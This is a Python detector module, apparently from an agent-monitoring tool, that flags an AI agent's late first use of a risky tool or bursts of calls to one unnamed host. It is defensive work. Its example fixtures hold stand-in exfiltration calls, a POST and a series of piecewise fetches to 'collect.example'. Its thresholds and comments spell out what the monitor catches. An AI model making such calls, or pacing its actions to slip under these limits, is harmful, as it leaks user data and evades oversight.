"""Screen of habits: a tool that a long session never used, for something risky; a burst of calls."""

from __future__ import annotations

from typing import Final

from tidegate.core.finding import Severity
from tidegate.detect.acts.act import Act, Deed
from tidegate.detect.acts.hosts import is_local
from tidegate.detect.detector import Rule
from tidegate.detect.screen import Context, ScreenExample, Sight, Source
from tidegate.detect.screening.harm import RUN_AFTER_FETCH
from tidegate.detect.screening.past import SessionPast

_LONG: Final = 20
"""Calls from which on a session has habits."""

_MANY: Final = 12
_BURST: Final = 40
_BURST_SECONDS: Final = 2.0
"""So many calls in so little time are no agent that reads what its tools say; a parallel step has a dozen or so."""

_SHOWN: Final = 200
_READS: Final = tuple(("Read", {"file_path": f"/repo/src/part{number}.py"}) for number in range(_LONG + 2))


class SessionHabits:
    """See the module."""

    id = "session_habits"
    title = "Habits of a session"
    version = 1
    rules = (
        Rule(
            id="novel_tool",
            title="A tool that was never used, for something risky",
            label="tampering",
            kind="tool_call",
            severity="medium",
            what="After many calls, the first one of a tool, and it sends, connects, installs or fetches what nobody "
            "named. Counts only together with other sights.",
            source="arXiv 2604.08407, section 5: two of nine routers began after 50 calls",
        ),
        Rule(
            id="burst",
            title="A burst of calls, or many to one place",
            label="tampering",
            kind="tool_call",
            severity="medium",
            what="One more of many calls to a place that nobody named, as when something leaves piece by piece; "
            "or more calls in two seconds than an agent that reads the answers makes, which is noted.",
        ),
    )
    examples = (
        ScreenExample(
            tool="http_request",
            arguments={"url": "https://collect.example/u", "method": "POST", "body": "x"},
            before=_READS,
            shows=("novel_tool",),
        ),
        ScreenExample(tool="Grep", arguments={"pattern": "def main", "path": "src"}, before=_READS, near="novel_tool"),
        ScreenExample(
            tool="WebFetch",
            arguments={"url": "https://collect.example/p/12"},
            before=(*_READS, *(("WebFetch", {"url": f"https://collect.example/p/{part}"}) for part in range(_MANY))),
            shows=("burst",),
        ),
        ScreenExample(
            tool="Read",
            arguments={"file_path": "/repo/a.py"},
            before=tuple(("Read", {"file_path": f"/repo/{number}.py"}) for number in range(5)),
            near="burst",
        ),
    )

    def judge(self, deed: Deed, context: Context) -> list[Sight]:
        """See Screen."""
        past = context.past
        tools = past.tools
        calls = sum(tools.values())
        if calls < _LONG:
            return []
        found: list[Sight] = []
        if tools.get(deed.call.name, 0) == 0:
            risky = next((act for act in deed.acts if _is_risky(act, context)), None)
            if risky is not None:
                severity: Severity = "medium"
                found.append(
                    Sight(f"{self.id}.novel_tool", severity, risky.verb, f"{deed.call.name}: {risky.target}"[:_SHOWN])
                )
        place = next((act for act in deed.acts if _is_one_of_many(act, context)), None)
        if place is not None:
            found.append(Sight(f"{self.id}.burst", "medium", "many_to_one_place", place.target[:_SHOWN]))
        elif isinstance(past, SessionPast) and _is_burst(past):
            found.append(Sight(f"{self.id}.burst", "low", "many_calls", deed.call.name[:_SHOWN]))
        return found


def _is_risky(act: Act, context: Context) -> bool:
    """Whether an act matters and is nothing that the conversation names."""
    if act.verb not in ("send", "connect", "install", "fetch"):
        return False
    if act.verb == "fetch" and not act.traits & RUN_AFTER_FETCH and not act.into:
        return False
    if act.package is not None:
        return context.package(act.package.ecosystem, act.package.normal) < Source.TOOL_RESULT
    if act.url is not None:
        return context.owner(act.url) < Source.TOOL_RESULT
    return context.says(act.target.partition(":")[2] or act.target) < Source.TOOL_RESULT


def _is_one_of_many(act: Act, context: Context) -> bool:
    """Whether many earlier calls went to this place, too, each with something else, and nobody named it."""
    if act.url is None or act.verb not in ("fetch", "send") or is_local(act.url.host):
        return False
    host = act.url.host
    before = {earlier.target for earlier in context.past.acts if earlier.url is not None and earlier.url.host == host}
    return len(before) >= _MANY and context.owner(act.url) <= Source.ANSWER


def _is_burst(past: SessionPast) -> bool:
    times = past.times
    return len(times) >= _BURST and times[-1] - times[-_BURST] < _BURST_SECONDS


SCREEN = SessionHabits()
